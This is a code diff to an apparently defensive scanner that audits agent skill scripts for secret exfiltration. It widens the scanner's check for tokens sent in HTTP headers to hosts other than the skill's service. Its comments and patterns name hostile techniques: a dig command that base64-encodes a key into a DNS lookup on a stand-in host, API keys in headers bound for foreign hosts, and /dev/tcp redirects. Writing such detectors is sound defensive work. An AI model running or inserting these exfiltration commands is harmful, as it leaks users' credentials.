@@ -34,6 +34,7 @@ from skillscope.audit.behavior.vocab import (
     credential_glob,
     credential_what,
     endpoint_kind,
+    header_leaves,
     home_path,
     is_store,
     item_for_site,
@@ -747,7 +748,7 @@ _HTTPIE_ITEM = re.compile(r"(?!-)[\w.-]+(?:==|:=@|:=|=@|=|@)\S")
 """An HTTPie (or xh) request item that puts data into the request: a field, a JSON value, a file's content."""
 
 
-def _sends(cmd: Cmd) -> bool:
+def _sends(cmd: Cmd, ctx: Ctx | None = None) -> bool:
     if cmd.name in _RESOLVERS and any("$" in a or "`" in a for a in cmd.args) or (cmd.name in _RESOLVERS and cmd.subs):
         return (
             True  # a name looked up with data spliced into it (dig "$(cat key | base64).x.example") leaks through DNS
@@ -766,8 +767,8 @@ def _sends(cmd: Cmd) -> bool:
         return True  # http POST url key=value / key=@file / key@file: HTTPie sends its request items
     if "xargs" in cmd.wrappers:
         return True  # xargs puts what the stage before prints into the request's arguments: it is sent
-    if _header_to_stranger(cmd):
-        return True  # a provider's token in a header goes to the host, as a body would
+    if _header_to_stranger(cmd, ctx):
+        return True  # a provider's token, or a token the skill's service did not issue, goes to the host in a header
     return any(
         a in _SEND_FLAGS
         or a.startswith(tuple(f + "=" for f in _SEND_FLAGS if f.startswith("--")))
@@ -798,17 +799,23 @@ def _uploads(cmd: Cmd) -> bool:
     )
 
 
-def _header_to_stranger(cmd: Cmd) -> bool:
+def _header_to_stranger(cmd: Cmd, ctx: Ctx | None = None) -> bool:
     """Whether a header or login value names a provider's token (``-H "X-Api-Key: $OPENAI_API_KEY"``) and the request
-    goes to a host the script names that is not that provider's."""
+    goes to a host the script names that is not that provider's, or names a token of no provider (``-H "X-Auth:
+    $DEPLOY_SECRET"``) going to a named host that is not the skill's service."""
     url = _url_of(cmd)
     if not _named_host(url):
         return False
     host = url_host_of(url or "")
+    purpose_names = ctx is not None and ctx.purpose.names(host)
     return any(
         i > 0
         and cmd.args[i - 1] in _HEADER_FLAGS
-        and any(vendor_of(name) and not related_host(name, host) for name in _VAR.findall(a))
+        and any(
+            (vendor_of(name) and not related_host(name, host))
+            or (ctx is not None and header_leaves(name, url or "", purpose_names))
+            for name in _VAR.findall(a)
+        )
         for i, a in enumerate(cmd.args)
     )
 
@@ -837,7 +844,10 @@ def _owned_send(ctx: Ctx, cmd: Cmd, name: str | None, url: str | None) -> bool:
     if host and related_host(name, host) and endpoint_kind(url or "") is None:
         return True
     # a token in a header is its use unless it names a provider and goes to another host the script names
-    return _header_only(cmd, name) and (vendor_of(name) is None or not _named_host(url))
+    return _header_only(cmd, name) and (
+        not _named_host(url)
+        or (vendor_of(name) is None and not header_leaves(name, url or "", ctx.purpose.names(host)))
+    )
 
 
 def _report_flow(ctx: Ctx, cmd: Cmd, source: tuple[str, int, str | None]) -> None:
@@ -2542,7 +2552,7 @@ def _scan(ctx: Ctx, depth: int, args: list[str] | None = None) -> None:
         downloaded: str | None = None
         decoded = False
         fed_from: int | None = None  # where the download or decode that feeds this pipeline's interpreter starts
-        sends_later = any(_sends(c) for stage in pipeline for c in stage)
+        sends_later = any(_sends(c, ctx) for stage in pipeline for c in stage)
         for stage in pipeline:
             for cmd in stage:
                 for name, _value, subs in cmd.assigns:
@@ -2554,7 +2564,7 @@ def _scan(ctx: Ctx, depth: int, args: list[str] | None = None) -> None:
                         else:
                             flow.var_items.pop(name, None)
                     inner = [c for p in subs for st in p for c in st]
-                    fetch = next((c for c in inner if _is_downloader(c) and not _sends(c)), None)
+                    fetch = next((c for c in inner if _is_downloader(c) and not _sends(c, ctx)), None)
                     if fetch is not None:
                         code_vars[name] = ("download", _url_of(fetch) or "the network")
                     elif any(_is_decoder(c) for c in inner):
@@ -2569,7 +2579,7 @@ def _scan(ctx: Ctx, depth: int, args: list[str] | None = None) -> None:
                                 if found[2]:
                                     flow.var_items[arg] = found[2]
                     continue
-                sending = _sends(cmd) or _ssh_sends(cmd, pipeline.index(stage) > 0)
+                sending = _sends(cmd, ctx) or _ssh_sends(cmd, pipeline.index(stage) > 0)
                 _record(ctx, cmd, sending)
                 _serves(ctx, cmd)
                 if cmd.name == "exec" and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects):
